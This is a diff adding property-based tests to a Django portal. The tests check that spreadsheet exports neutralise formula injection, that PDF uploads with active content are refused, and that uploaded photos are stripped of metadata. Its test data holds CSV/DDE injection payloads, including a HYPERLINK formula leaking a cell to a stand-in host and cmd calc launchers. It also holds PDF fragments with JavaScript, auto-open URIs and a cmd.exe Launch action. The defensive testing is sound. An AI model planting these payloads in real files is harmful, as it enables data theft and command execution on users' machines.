@@ -6,13 +6,19 @@ never a server error, and never a half-saved object: a refused form leaves every
 portal as it was, an accepted one saves the object whole, its text normalised.
 """
 
+import csv
+import io
+import re
 import unicodedata
 
 import pytest
 from django.apps import apps
+from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
+from openpyxl import load_workbook
+from PIL import Image
 
 from identity.models import SiteIdentity
 from institutions.importing import import_units_csv
@@ -26,8 +32,11 @@ from tests.factories import (
     InstitutionFactory,
     ProgressReportFactory,
     WorkPlanFactory,
+    pdf_bytes,
 )
 from vietnamese.text import CONTROL as _CONTROL
+from work_plans.models import ProgressReport
+from work_plans.uploads import check_pdf
 
 pytestmark = pytest.mark.django_db
 
@@ -47,10 +56,20 @@ ATTACKS = [
     "-1",
     "1e309",
     "99999999999999999999",
+    # Formulas, for the exports that leaders open in a spreadsheet.
+    '=HYPERLINK("http://evil/?x="&A1,"Xem")',
+    "+1+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "- Tổ chức chiếu phim lưu động",
 ]
 TEXT = st.one_of(
     st.text(st.characters(blacklist_categories=("Cs",)), max_size=300),
     st.sampled_from(ATTACKS),
+)
+FORMULA_LIKE = st.builds(
+    lambda start, rest: start + rest, st.sampled_from(["=", "+", "-", "@", "\t", "\r"]), TEXT
 )
 DATES = st.one_of(
     st.sampled_from(
@@ -328,6 +347,214 @@ def test_unit_importer_reports_bad_rows_and_keeps_the_good(rows, header):
     after = row_counts()["institutions.AdministrativeUnit"]
     assert after - before == report.created
     assert all(isinstance(error, str) and error for error in report.errors)
+
+
+# Exports --------------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def exported_plan():
+    plan = WorkPlanFactory(year=2026, institution__slug="trung-tam-xuat")
+    return CommitmentFactory(plan=plan, target=12)
+
+
+@settings(
+    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+@given(
+    description=st.one_of(TEXT, FORMULA_LIKE),
+    unit=st.one_of(TEXT, FORMULA_LIKE),
+    category=st.one_of(TEXT, FORMULA_LIKE),
+)
+def test_exports_write_any_text_as_text_and_numbers_as_numbers(
+    client, exported_plan, description, unit, category
+):
+    """Whatever staff typed, no cell of a plan's export is a formula: XLSX cells hold the
+    stored text as text, CSV cells the stored text with a quote before a formula's start."""
+    commitment = exported_plan
+    commitment.description = description or "Mô tả"
+    commitment.unit = unit[:50]
+    commitment.save()
+    commitment.category.name = category[:150] or "Nhóm"
+    commitment.category.save()
+    commitment.refresh_from_db()
+    stored = [commitment.category.name, commitment.description, commitment.unit]
+    plan = commitment.plan
+    url = reverse("work_plans:plan-export", args=[plan.year, plan.institution.slug, "xlsx"])
+    sheet = load_workbook(io.BytesIO(client.get(url).content)).active
+    cells = next(sheet.iter_rows(min_row=2, max_row=2))
+    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
+    # XML reads a carriage return as a line feed: the same line break in a spreadsheet.
+    assert [cells[0].value, cells[1].value, cells[3].value] == [
+        value.replace("\r\n", "\n").replace("\r", "\n") or None for value in stored
+    ]
+    assert cells[2].value == 12 and cells[2].data_type == "n"
+
+    text = client.get(url.replace(".xlsx", ".csv")).content.decode("utf-8-sig")
+    row = list(csv.reader(io.StringIO(text)))[1]
+    for cell, value in zip([row[0], row[1], row[3]], stored, strict=True):
+        formula = value.startswith(("=", "+", "-", "@", "\t", "\r"))
+        assert cell == ("'" + value if formula else value)
+    assert row[2] == "12.0"
+
+
+# Uploads --------------------------------------------------------------------------------------
+
+# Active content of a PDF, each as what it adds to the catalog ("catalog"), to its name tree
+# ("names"), to the page ("page") and to the page's annotations ("annots"); and the word the
+# refusal names it by.
+ACTIVE_PDF = {
+    "JavaScript": {
+        "names": "/JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert(1)) >>] >>"
+    },
+    "OpenAction": {"catalog": "/OpenAction << /S /URI /URI (http://evil/) >>"},
+    "(AA)": {"page": "/AA << /O << /S /URI /URI (http://evil/) >> >>"},
+    "Launch": {"annots": "<< /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> >>"},
+    "EmbeddedFile": {
+        "names": "/EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << >> >>] >>"
+    },
+    "XFA": {"catalog": "/AcroForm << /Fields [] /XFA (<xdp:xdp/>) >>"},
+    "RichMedia": {"annots": "<< /Subtype /RichMedia /Rect [0 0 9 9] >>"},
+}
+ORDINARY_PDF = {
+    "opening at a page": {"catalog": "/OpenAction [3 0 R /Fit]"},
+    "a web link": {
+        "annots": "<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://a.vn/) >> >>"
+    },
+    "page labels": {"catalog": "/PageLabels << /Nums [0 << /S /D >>] >>"},
+}
+_NAME = re.compile(r"/([A-Za-z])([A-Za-z]*)")
+
+
+def escaped(text: str) -> str:
+    """Every name with its first letter written as #xx, as a PDF may write it."""
+    return _NAME.sub(lambda m: f"/#{ord(m[1]):02x}{m[2]}", text)
+
+
+@st.composite
+def pdfs(draw):
+    """A PDF with some active content, or none, written plainly or with its names escaped,
+    its parts in the page and catalog or compressed in an object stream; and the words its
+    refusal must name."""
+    active = draw(st.sets(st.sampled_from(sorted(ACTIVE_PDF))))
+    ordinary = draw(st.sets(st.sampled_from(sorted(ORDINARY_PDF))))
+    if "OpenAction" in active:
+        ordinary.discard("opening at a page")
+    parts: dict[str, list[str]] = {"catalog": [], "names": [], "page": [], "annots": []}
+    for feature in [*(ACTIVE_PDF[a] for a in active), *(ORDINARY_PDF[o] for o in ordinary)]:
+        for where, text in feature.items():
+            parts[where].append(text)
+    if draw(st.booleans()):
+        parts = {where: [escaped(text) for text in texts] for where, texts in parts.items()}
+    catalog, page = list(parts["catalog"]), list(parts["page"])
+    if parts["names"]:
+        catalog.append("/Names << " + " ".join(parts["names"]) + " >>")
+    if parts["annots"]:
+        page.append("/Annots [" + " ".join(parts["annots"]) + "]")
+    packed = []
+    if draw(st.booleans()):  # each value in an object of a compressed object stream
+        for entries in (catalog, page):
+            for index, entry in enumerate(entries):
+                name, _space, value = entry.partition(" ")
+                packed.append(value)
+                entries[index] = f"{name} {5 + len(packed)} 0 R"
+    data = pdf_bytes(
+        catalog=" ".join(catalog) + " ",
+        page=" ".join(page) + " ",
+        packed=tuple(packed),
+        padding=draw(st.sampled_from([0, 3000])),
+    )
+    return data, active
+
+
+def post_evidence(client, world, data: bytes, name: str):
+    report = world["objects"]["report"]
+    return client.post(
+        reverse("admin:work_plans_progressreport_add"),
+        {
+            "commitment": report.commitment_id,
+            "period_start": "quarter:2025-04-01",
+            "quantity": "3",
+            "note": "Biên bản nghiệm thu",
+            "evidence_article": "",
+            "evidence_file": SimpleUploadedFile(name, data, content_type="text/html"),
+        },
+    )
+
+
+@settings(
+    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+@given(pdf=pdfs())
+def test_evidence_pdfs_are_refused_exactly_when_active_naming_what(client, staff_a, world, pdf):
+    data, active = pdf
+    client.force_login(staff_a)
+    before = row_counts()
+    response = post_evidence(client, world, data, "bien-ban.pdf")
+    if active:
+        assert response.status_code == 200
+        message = " ".join(response.context["adminform"].form.errors["evidence_file"])
+        named = {word for word in ACTIVE_PDF if word in message}
+        assert named == active, message
+        assert row_counts() == before
+    else:
+        assert response.status_code == 302, response.context["adminform"].form.errors
+        report = ProgressReport.objects.latest("pk")
+        assert report.evidence_file.name.endswith(".pdf")
+        assert report.evidence_file.read() == data
+
+
+@settings(
+    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+@given(
+    content=st.one_of(
+        st.binary(max_size=2000).map(lambda tail: b"%PDF-1.7\n" + tail),
+        st.binary(max_size=2000).map(lambda tail: pdf_bytes()[:-30] + tail),
+        st.binary(max_size=2000),
+    )
+)
+def test_any_bytes_as_evidence_are_refused_or_stored_checked(client, staff_a, world, content):
+    client.force_login(staff_a)
+    before = row_counts()
+    response = post_evidence(client, world, content, "minh-chung.pdf")
+    assert response.status_code in (200, 302)
+    if response.status_code == 200:
+        assert response.context["adminform"].form.errors["evidence_file"]
+        assert row_counts() == before
+    else:  # only a whole, inactive PDF: stored as it came, and it passes the check again
+        kept = ProgressReport.objects.latest("pk").evidence_file.read()
+        assert kept == content
+        check_pdf(kept)
+
+
+@settings(
+    max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+@given(
+    fmt=st.sampled_from(["JPEG", "PNG"]),
+    size=st.tuples(st.integers(1, 200), st.integers(1, 200)),
+    gps=st.booleans(),
+    tail=st.binary(max_size=300),
+)
+def test_evidence_photos_are_stored_without_exif_or_what_follows(
+    client, staff_a, world, fmt, size, gps, tail
+):
+    exif = Image.Exif()
+    if gps:
+        exif[0x8825] = {1: "N", 2: (10.0, 27.0, 36.0)}
+    exif[0x010F] = "Máy ảnh"
+    buffer = io.BytesIO()
+    Image.new("RGB", size, (90, 160, 30)).save(buffer, fmt, exif=exif)
+    marked = b"<script>" + tail
+    client.force_login(staff_a)
+    response = post_evidence(client, world, buffer.getvalue() + marked, "anh.bin")
+    assert response.status_code == 302, response.context["adminform"].form.errors
+    kept = ProgressReport.objects.latest("pk").evidence_file.read()
+    image = Image.open(io.BytesIO(kept))
+    assert image.format == fmt and image.size == size and not image.getexif()
+    assert marked not in kept
+    assert kept.endswith(b"\xff\xd9" if fmt == "JPEG" else b"IEND\xaeB`\x82")
 
 
 @pytest.mark.parametrize(
